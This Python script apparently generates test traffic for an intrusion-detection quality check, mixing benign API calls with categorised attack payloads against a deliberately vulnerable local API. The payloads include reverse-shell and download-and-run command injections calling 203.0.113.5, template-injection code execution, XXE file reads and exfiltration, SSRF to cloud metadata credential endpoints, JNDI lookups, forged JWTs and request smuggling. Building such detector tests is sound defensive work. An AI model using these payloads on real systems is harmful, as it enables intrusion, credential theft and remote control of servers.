#!/usr/bin/env python3
"""Clients of `cargo xtask detect-quality`, against xtask/assets/vuln_api.py inside network
namespaces. Test traffic only.

    detect_client.py SERVER PORT benign N      ordinary use of the API, N rounds
    detect_client.py SERVER PORT attack CAT    one category of attack payloads

The attack payloads are written here (the tools bring their own for SQL injection, XSS,
traversal, brute force and spraying). Every request of an attack category carries an
attack; the first line printed is how many requests were sent.
"""
import base64
import http.client
import json
import random
import socket
import sys
import time
import urllib.parse

SERVER, PORT, MODE, ARG = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
sent = 0


def conn():
    return http.client.HTTPConnection(SERVER, PORT, timeout=10)


C = conn()


def call(method, path, body=None, headers=None, ctype=None):
    global C, sent
    h = {"Host": f"{SERVER}:{PORT}", "User-Agent": UA}
    h.update(headers or {})
    if body is not None:
        if isinstance(body, (dict, list)):
            body = json.dumps(body).encode()
            ctype = ctype or "application/json"
        elif isinstance(body, str):
            body = body.encode()
        h["Content-Type"] = ctype or "application/octet-stream"
    for _ in range(2):
        try:
            C.request(method, path, body=body, headers=h)
            r = C.getresponse()
            data = r.read()
            sent += 1
            return r.status, data
        except (http.client.HTTPException, OSError):
            C.close()
            C = conn()
    return 0, b""


def q(s):
    return urllib.parse.quote(s, safe="")


def b64url(b):
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def jwt(header, payload, sig=""):
    return f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(payload).encode())}.{sig}"


UA = "python-requests/2.31.0"

# --- ordinary use -------------------------------------------------------------------

SEARCHES = [
    "red shoes", "blue hat", "scarf", "women's boots", "size 10 1/2", "100% cotton", "red & blue",
    "C++ primer", "rock'n'roll vinyl", "50% off - today only!", "what's new?", "O'Reilly", "union jack flag",
    "script writing book", "drop earrings", "select comfort mattress", "kids (age 3-5)", "café au lait mug",
    "über cool", "\"exact phrase\"", "tea; coffee", "2 for 1", "mother's day", "#1 bestseller", "a/b testing",
    "email me: shop@example.com", "https://example.com/item/42", "<3 gifts", "price < 20", "java & python books",
    "sleep mask", "table lamp", "update firmware cable", "insert molding", "the order of the phoenix",
]
FILES = ["report-2024.pdf", "Q3 results (final).xlsx", "notes v2.txt", "logo.png", "users.csv", "readme.md",
         "archive.tar.gz", "photo 2024-05-01.jpg", "contract_signed.pdf", "data.json"]
URLS = ["https://partner.example.com/feed.xml", "https://cdn.example.org/img/1.png?size=large",
        "http://news.example.net/rss", "https://api.example.com/v2/items?page=3&sort=desc",
        "https://www.example.com/path/to/page#section", "https://example.com/a%20b"]
HOSTS = ["api.example.com", "203.0.113.10", "db-01.internal.example.com", "8.8.8.8", "example.org"]
TEMPLATES = ["Hello {name}, you have {count} new messages", "Order #{id} shipped", "Dear customer",
             "Your code is {code}", "Price: $19.99 (incl. VAT)", "Thanks! :-)"]
DIRECTORY = ["jdoe", "Smith, John", "alice", "m.jones", "O'Brien", "ann-marie"]
AGENTS = [
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "okhttp/4.12.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
]


def benign(rounds):
    global UA
    rnd = random.Random(7)
    tok = None
    for i in range(rounds):
        UA = AGENTS[i % len(AGENTS)]
        if tok is None or i % 50 == 0:
            user = rnd.choice(["alice", "bob", "carol"])
            pw = {"alice": "wonderland", "bob": "builder", "carol": "c4r0l!"}[user]
            if rnd.random() < 0.1:  # a typo, then the right password
                call("POST", "/api/login", {"username": user, "password": pw + "x"})
            _, data = call("POST", "/api/login", {"username": user, "password": pw})
            try:
                tok = json.loads(data)["token"]
            except (ValueError, KeyError):
                tok = None
        auth = {"Authorization": f"Bearer {tok}"} if tok else {}
        k = rnd.randrange(12)
        if k == 0:
            call("GET", f"/api/users?id={rnd.randint(1, 3)}", headers=auth)
        elif k == 1:
            call("GET", f"/api/users/{rnd.randint(1, 3)}", headers=auth)
        elif k == 2:
            call("GET", "/api/search?q=" + q(rnd.choice(SEARCHES)), headers=auth)
        elif k == 3:
            call("GET", "/api/files?name=" + q(rnd.choice(FILES)), headers=auth)
        elif k == 4:
            call("GET", "/api/fetch?url=" + q(rnd.choice(URLS)), headers=auth)
        elif k == 5:
            call("GET", "/api/ping?host=" + q(rnd.choice(HOSTS)), headers=auth)
        elif k == 6:
            call("GET", "/api/render?template=" + q(rnd.choice(TEMPLATES)), headers=auth)
        elif k == 7:
            call("GET", "/api/directory?user=" + q(rnd.choice(DIRECTORY)), headers=auth)
        elif k == 8:
            call("POST", "/api/products", {"filter": {"price_lt": rnd.randint(10, 90), "name": rnd.choice(SEARCHES)},
                                           "sort": rnd.choice(["name", "-price"]), "page": rnd.randint(1, 5)}, auth)
        elif k == 9:
            item = rnd.choice(SEARCHES).replace("&", "&amp;").replace("<", "&lt;")
            call("POST", "/api/import", f'<?xml version="1.0"?><items><item id="{i}">{item}</item></items>', auth,
                 "application/xml")
        elif k == 10:
            call("GET", f"/api/report?id={rnd.randint(1, 500)}", headers=auth)
        else:
            call("GET", "/api/me", headers=auth)


# --- attacks ------------------------------------------------------------------------

COMMAND = [
    "127.0.0.1; cat /etc/passwd", "127.0.0.1 && id", "127.0.0.1 | whoami", "`id`", "$(whoami)",
    "127.0.0.1;uname -a", "8.8.8.8 || ping -c 3 127.0.0.1", "x; wget http://203.0.113.5/s.sh -O /tmp/s",
    "x|nc 203.0.113.5 4444 -e /bin/sh", "127.0.0.1\ncat /etc/shadow", "a;${IFS}cat${IFS}/etc/passwd",
    "127.0.0.1 & ping -c 3 127.0.0.1", "; curl http://203.0.113.5/x | sh", "| ls -la /", "$(sleep 5)",
    "127.0.0.1`sleep 5`", "x && echo vulnerable", "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "| powershell -enc SQBFAFgA", "& cmd /c dir", "127.0.0.1;python3 -c 'import os'",
]
SSTI = [
    "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "{{7*'7'}}", "[[${7*7}]]",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os}}", "${{7*7}}", "{{ 1337*1337 }}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "{{get_flashed_messages.__globals__}}",
    "{$smarty.version}", "{{dump(app)}}", "#set($x=7*7)${x}", "{{range.constructor(\"return process\")()}}",
]
NOSQL_QUERY = [
    "username[$ne]=x&password[$ne]=x", "username[$regex]=.*&password[$ne]=", "q[$gt]=", "id[$exists]=true",
    "username[$in][]=admin&password[$ne]=1", "filter[$where]=sleep(100)", "user[$nin][]=guest", "price[$lt]=0&name[$regex]=^a",
]
NOSQL_BODY = [
    {"username": {"$ne": None}, "password": {"$ne": None}}, {"username": "admin", "password": {"$gt": ""}},
    {"$where": "sleep(1000)"}, {"username": {"$regex": "^adm"}, "password": {"$ne": "x"}},
    {"filter": {"$or": [{"a": 1}, {"b": {"$ne": 2}}]}}, {"name": {"$expr": {"$gt": ["$price", 0]}}},
    {"username": "admin'; return true; var x='", "password": "x"}, {"q": "this.password.match(/.*/)"},
    {"username": {"$in": ["admin", "root"]}, "password": {"$exists": True}}, {"id": {"$nin": [1]}},
]
XXE = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://203.0.113.5/e.dtd"> %p;]><r/>',
    '<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><d>&b;</d>',
    '<?xml version="1.0"?><!DOCTYPE r PUBLIC "-//x//y" "http://203.0.113.5/x.dtd"><r/>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "expect://id">]><r>&x;</r>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE r [<!ENTITY % d SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY x SYSTEM \'http://203.0.113.5/?%d;\'>">%e;]><r>&x;</r>',
]
LDAP = [
    "*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectclass=*)", "x*)(|(password=*)", "admin*)((|userpassword=*)",
    "*)(cn=*))(&(cn=*", ")(|(mail=*))", "*))%00", "admin)(!(&(1=0", "*)(objectClass=user))(|(objectClass=*",
    "jdoe)(|(sn=*))", "*(|(mail=*))",
]
SSRF = [
    "http://127.0.0.1:22/", "http://localhost/admin", "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "http://10.0.0.5:8080/internal",
    "http://metadata.google.internal/computeMetadata/v1/", "http://127.1/", "http://192.168.0.1/admin",
    "http://[::ffff:127.0.0.1]/", "http://100.100.100.200/latest/meta-data/", "http://user@127.0.0.1:8080/",
    "http://localhost.localdomain/", "ldap://127.0.0.1:389/", "http://172.16.0.10/", "http://0/",
    "http://[fd00::1]/", "http://169.254.170.2/v2/credentials",
]
JNDI = [
    "${jndi:ldap://203.0.113.7:1389/a}", "${jndi:rmi://203.0.113.7:1099/x}", "${${lower:j}ndi:ldap://203.0.113.7/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.7/a}", "${jndi:dns://203.0.113.7/x}",
    "${${env:NaN:-j}ndi${env:NaN:-:}ldap://203.0.113.7/a}", "${jndi:ldaps://203.0.113.7/a}",
    "${${upper:j}ndi:ldap://203.0.113.7/x}", "${jNdI:ldap://203.0.113.7/x}", "${jndi:iiop://203.0.113.7/x}",
]


def raw(data):
    global sent
    s = socket.create_connection((SERVER, PORT), timeout=5)
    s.sendall(data)
    try:
        s.recv(65536)
    except OSError:
        pass
    s.close()
    sent += 1


def attack(cat):
    global UA
    UA = "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
    if cat == "command":
        for p in COMMAND:
            call("GET", "/api/ping?host=" + q(p))
    elif cat == "template":
        for p in SSTI:
            call("GET", "/api/render?template=" + q(p))
    elif cat == "nosql":
        for p in NOSQL_QUERY:
            call("GET", "/api/products?" + p)
        for b in NOSQL_BODY:
            call("POST", "/api/login", b)
    elif cat == "xxe":
        for p in XXE:
            call("POST", "/api/import", p, ctype="application/xml")
    elif cat == "ldap":
        for p in LDAP:
            call("GET", "/api/directory?user=" + q(p))
    elif cat == "ssrf":
        for p in SSRF:
            call("GET", "/api/fetch?url=" + q(p))
    elif cat == "jndi":
        for i, p in enumerate(JNDI):
            hdr = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For"][i % 4]
            call("GET", "/api/health", headers={hdr: p})
            call("GET", "/api/search?q=" + q(p))
    elif cat == "jwt":
        now = int(time.time())
        for alg in ["none", "None", "NONE", "nOnE"]:
            call("GET", "/api/me", headers={"Authorization": "Bearer " + jwt({"alg": alg, "typ": "JWT"}, {"sub": "admin", "exp": now + 3600})})
        for d in [1, 3600, 86400 * 30]:
            import hashlib
            import hmac as hm
            signed = jwt({"alg": "HS256", "typ": "JWT"}, {"sub": "alice", "exp": now - d})[:-1]
            sig = b64url(hm.new(b"k3y-Th4t-1s-n0t-1n-4ny-l1st-9f2c", signed.encode(), hashlib.sha256).digest())
            call("GET", "/api/me", headers={"Authorization": f"Bearer {signed}.{sig}"})
        for secret in [b"secret", b"password", b"changeme", b"your-256-bit-secret"]:
            import hashlib
            import hmac as hm
            signed = jwt({"alg": "HS256"}, {"sub": "admin", "role": "admin", "exp": now + 60})[:-1]
            sig = b64url(hm.new(secret, signed.encode(), hashlib.sha256).digest())
            call("GET", "/api/me", headers={"Authorization": f"Bearer {signed}.{sig}"})
    elif cat == "smuggling":
        host = f"{SERVER}:{PORT}".encode()
        for req in [
            b"POST /api/import HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
            b"POST /api/import HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 4\r\nContent-Length: 11\r\n\r\nabcdefghijk",
            b"POST /api/import HTTP/1.1\r\nHost: " + host + b"\r\nTransfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\nabc",
            b"POST /api/import HTTP/1.1\r\nHost: " + host + b"\r\nHost: internal.example\r\nContent-Length: 2\r\n\r\nab",
            b"GET /api/health HTTP/1.1\r\nHost: " + host + b"\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: 0\r\n\r\n",
        ]:
            raw(req)
    elif cat == "credentials_in_url":
        for p in ["api_key=sk_live_51HxQ2eZvKYlo2C0a1b2c3d4", "access_token=ya29.a0AfH6SMBx3k9", "password=hunter2",
                  "token=ghp_16C7e42F292c6912E7710c838347Ae178B4a", "apikey=AIzaSyA-1b2c3d4e5f6g7h8i9j0"]:
            call("GET", "/api/users?id=1&" + p)
    else:
        sys.exit(f"unknown category {cat}")


if MODE == "benign":
    benign(int(ARG))
else:
    attack(ARG)
print(sent)
